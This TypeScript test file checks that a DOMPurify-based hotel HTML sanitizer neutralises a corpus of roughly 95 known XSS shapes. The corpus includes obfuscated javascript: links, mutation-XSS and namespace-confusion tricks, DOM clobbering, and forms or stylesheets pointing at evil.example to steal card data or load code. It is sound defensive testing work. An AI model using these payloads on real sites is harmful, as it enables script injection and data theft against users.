import { describe, expect, it } from 'vitest';
import { fillPlaceholders, HOTEL_HTML_ATTRIBUTES, HOTEL_HTML_TAGS, IMAGE_SCHEMES, LINK_SCHEMES, sanitizeHotelHtml } from '../../src/lib/html';

// Known-dangerous shapes from the DOMPurify/cure53 literature, the HTML5 Security Cheatsheet and
// OWASP's filter-evasion list: mutation XSS, namespace confusion, hidden schemes, forms, documents
// that navigate or load, DOM clobbering and referrer leaks.
const DANGEROUS: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">X</maction></math>',
  '<math href="javascript:alert(1)">X</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style><img src=x onerror=alert(1)></style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:2147483647">cover</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<a href="/__sandbox/faults">x</a>',
  '<a href="https://example.com" target="_top">top</a>',
  '<a href="https://example.com" ping="https://evil.example/track">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<a href="https://example.com" rel="opener">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x, https://evil.example/t.png 2x">',
  '<img src="mailto:x@example.com">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<isindex action="javascript:alert(1)" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover="alert(1)">x</div>',
  '<p id="location">clobber</p>',
  '<img name="cookie" src="https://example.com/a.png">',
  '<form name="body"><input name="attributes"></form>',
  '<a id="defaultView" name="defaultView" href="https://example.com">x</a>',
  '<div is="x-evil" data-x="1" aria-hidden="true" role="button" tabindex="1">x</div>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<applet code="x.class"></applet>',
  '<portal src="https://evil.example"></portal>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<a href="https://example.com"><svg><a xlink:href="javascript:alert(1)">nested</a></svg></a>',
  '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">',
  '<table><tbody><tr><td><form><input formaction="javascript:alert(1)"></form></td></tr></tbody></table>',
];

const TAGS = new Set(HOTEL_HTML_TAGS.filter((tag) => !/^h\d$|^header$|^footer$/.test(tag)));
const ATTRIBUTES = new Set([...HOTEL_HTML_ATTRIBUTES, 'target', 'rel', 'referrerpolicy', 'loading', 'decoding']);

/** Every problem a sanitized tree could still have: what runs, navigates, loads, clobbers or leaks. */
function problems(root: ParentNode): string[] {
  const found: string[] = [];
  root.querySelectorAll('*').forEach((element) => {
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace ${element.namespaceURI}`);
    if (!TAGS.has(element.localName)) found.push(`element <${element.localName}>`);
    for (const attribute of Array.from(element.attributes)) {
      if (/^on/i.test(attribute.name)) found.push(`handler ${attribute.name}`);
      if (!ATTRIBUTES.has(attribute.name)) found.push(`attribute ${attribute.name}`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !LINK_SCHEMES.test(href)) found.push(`href ${href}`);
    const src = element.getAttribute('src');
    if (src !== null && !IMAGE_SCHEMES.test(src)) found.push(`src ${src}`);
    if (element.localName === 'a' && (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')) {
      found.push('link without a new tab, noopener and noreferrer');
    }
    if (element.localName === 'img' && element.getAttribute('referrerpolicy') !== 'no-referrer') found.push('image with a referrer');
  });
  return found;
}

function sanitized(html: string): HTMLDivElement {
  const container = document.createElement('div');
  container.append(sanitizeHotelHtml(html));
  return container;
}

describe('hotel HTML through the one allowlist sanitizer (DOMPurify)', () => {
  it('has a corpus of at least 60 known-dangerous shapes', () => {
    expect(DANGEROUS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(DANGEROUS)('nothing executable, navigating, loading or clobbering survives: %s', (html) => {
    const container = sanitized(html);
    expect(problems(container)).toEqual([]);
    // Inserted as nodes, never re-parsed; even serialized and parsed again (mutation XSS) it stays inert.
    const reparsed = document.createElement('div');
    reparsed.innerHTML = container.innerHTML;
    expect(problems(reparsed)).toEqual([]);
  });

  it('returns nodes, not a string to parse again', () => {
    expect(sanitizeHotelHtml('<p>Hi</p>')).toBeInstanceOf(DocumentFragment);
  });

  it('keeps ordinary formatting, lists, links and images', () => {
    const container = sanitized(
      '<div class="brand" lang="zh-Hant" dir="ltr"><p><strong>Lotus</strong> <em>Taipei</em> <b>b</b> <i>i</i> <u>u</u> <small>s</small><br>' +
        '<span title="t" aria-label="label">span</span></p><ul><li>one</li></ul><ol><li>two</li></ol>' +
        '<nav><a href="https://example.com/access">Access</a> <a href="mailto:stay@example.com">Mail</a> <a href="tel:+88621234567">Call</a></nav>' +
        '<section><img src="https://example.com/logo.png" alt="Logo" width="120" height="40"></section></div>',
    );
    expect(container.querySelector('div.brand')?.getAttribute('lang')).toBe('zh-Hant');
    expect(container.querySelector('strong')?.textContent).toBe('Lotus');
    for (const tag of ['em', 'b', 'i', 'u', 'small', 'br', 'ul', 'ol', 'li', 'nav', 'section', 'span']) expect(container.querySelector(tag), tag).not.toBeNull();
    expect(container.querySelector('span')?.getAttribute('aria-label')).toBe('label');
    const links = Array.from(container.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/access', 'mailto:stay@example.com', 'tel:+88621234567']);
    const image = container.querySelector('img')!;
    expect([image.getAttribute('src'), image.getAttribute('alt'), image.getAttribute('width')]).toEqual(['https://example.com/logo.png', 'Logo', '120']);
    expect(problems(container)).toEqual([]);
  });

  it('every link opens in a new tab without opener or referrer; images load lazily without a referrer', () => {
    const container = sanitized('<a href="https://example.com" target="_self" rel="opener">x</a><img src="https://example.com/a.png">');
    const link = container.querySelector('a')!;
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
    const image = container.querySelector('img')!;
    expect([image.getAttribute('referrerpolicy'), image.getAttribute('loading')]).toEqual(['no-referrer', 'lazy']);
  });

  it('headings and header/footer elements keep their text but leave the page outline and landmarks alone', () => {
    const container = sanitized('<header class="top"><h1 class="name">Lotus</h1></header><footer><h3>Access</h3></footer>');
    expect(container.querySelector('h1, h3, header, footer')).toBeNull();
    expect(container.querySelector('div.top.header > p.name.heading-1')?.textContent).toBe('Lotus');
    expect(container.querySelector('div.footer > p.heading-3')?.textContent).toBe('Access');
  });

  it('placeholders are filled with escaped text before sanitizing', () => {
    const html = fillPlaceholders('<strong>{{facility_name}}</strong> {{brand_name}} {{unknown}} {{constructor}}', {
      facility_name: '<img src=x onerror=alert(1)>Lotus',
      brand_name: 'A & B',
    });
    const container = sanitized(html);
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toBe('<img src=x onerror=alert(1)>Lotus A & B  ');
  });
});
